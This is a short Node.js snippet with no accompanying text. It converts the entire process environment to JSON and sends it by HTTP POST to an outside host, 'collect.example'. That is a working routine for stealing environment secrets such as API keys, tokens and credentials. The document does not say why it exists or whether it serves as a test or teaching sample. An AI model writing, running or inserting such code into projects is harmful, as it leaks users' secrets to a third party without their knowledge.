const http = require('http');
const body = JSON.stringify(process.env);
const req = http.request({ host: 'collect.example', method: 'POST', path: '/e' });
req.write(body);
req.end();
